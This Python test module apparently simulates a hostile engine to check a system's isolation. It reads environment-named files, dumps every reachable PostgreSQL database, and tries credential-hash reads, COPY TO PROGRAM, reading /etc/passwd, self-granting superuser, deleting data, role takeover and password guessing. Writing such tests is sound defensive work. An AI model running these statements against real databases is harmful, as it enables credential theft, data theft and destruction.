"""`python -m tests.hostile.attacks.thief`: in the place of an engine, with all that this one is told.

Takes the files that its environment names, and tries what it may in the database. Prints what it got: JSON.
"""

import base64
import json
import os
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit, urlunsplit

import psycopg
from psycopg.sql import SQL, Identifier

_TABLES: Final = (
    "SELECT relname FROM pg_class WHERE relkind IN ('r', 'v') AND relnamespace = 'public'::regnamespace"
)
_GREEDY: Final = (
    "SELECT rolpassword FROM pg_authid",
    "SELECT passwd FROM pg_shadow",
    "SELECT pg_read_file('postgresql.conf')",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "SELECT lo_import('/etc/passwd')",
    "ALTER ROLE CURRENT_USER SUPERUSER",
    "CREATE ROLE mine LOGIN",
    "ALTER TABLE matches DISABLE ROW LEVEL SECURITY",
    "CREATE FUNCTION public.mine() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    "DELETE FROM events",
    "UPDATE events SET body = ''",
    "INSERT INTO revocations SELECT * FROM revocations",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> CURRENT_USER",
)
"""What somebody would try who wants more."""


def files(environ: Mapping[str, str]) -> dict[str, str]:
    """What is in all files that variables of ours name, in base64."""
    named = {name: Path(value) for name, value in environ.items() if name.startswith("ARDRI_")}
    return {
        name: base64.b64encode(path.read_bytes()).decode() for name, path in named.items() if path.is_file()
    }


def rows(url: str) -> Iterator[tuple[str, list[str]]]:
    """What can be read in one database: tables, and their rows in words."""
    with psycopg.connect(url, autocommit=True) as connection:
        for (table,) in connection.execute(_TABLES).fetchall():
            try:
                found = connection.execute(SQL("SELECT * FROM {}").format(Identifier(table))).fetchall()
            except psycopg.Error:
                continue
            yield str(table), [str(row) for row in found]


def done(url: str) -> Iterator[str]:
    """The statements that were not refused."""
    for statement in _GREEDY:
        try:
            with psycopg.connect(url, autocommit=True) as connection:
                connection.execute(statement.encode())
        except psycopg.Error:
            continue
        yield statement


def others(url: str) -> Iterator[str]:
    """Accounts of the server that the own password is good for, or the role of which can be taken."""
    with psycopg.connect(url, autocommit=True) as connection:
        roles = [str(role) for (role,) in connection.execute("SELECT rolname FROM pg_roles").fetchall()]
        own = connection.info.user
        for role in roles:
            if role != own and _succeeds(connection, role):
                yield f"SET ROLE {role}"
    parts = urlsplit(url)
    for role in roles:
        for password in (parts.password, role, ""):
            place = f"{role}:{password}@{parts.hostname}:{parts.port}"
            if role != own and _connects(urlunsplit(parts._replace(netloc=place))):
                yield f"as {role}"


def _succeeds(connection: psycopg.Connection[Any], role: str) -> bool:
    try:
        connection.execute(SQL("SET ROLE {}").format(Identifier(role)))
    except psycopg.Error:
        return False
    return True


def _connects(url: str) -> bool:
    try:
        psycopg.connect(url).close()
    except psycopg.Error:
        return False
    return True


def databases(url: str) -> Iterator[str]:
    """Addresses of all databases of the server."""
    parts = urlsplit(url)
    with psycopg.connect(url) as connection:
        for (name,) in connection.execute("SELECT datname FROM pg_database WHERE datallowconn").fetchall():
            yield urlunsplit(parts._replace(path=f"/{name}"))


def main() -> None:
    """Tries all of it."""
    url = os.environ["ARDRI_DATABASE_URL"]
    read = {each.rpartition("/")[2]: dict(rows(each)) for each in databases(url) if _connects(each)}
    got = {"files": files(os.environ), "read": read, "done": [*done(url)], "others": [*others(url)]}
    sys.stdout.write(json.dumps(got))


if __name__ == "__main__":
    main()
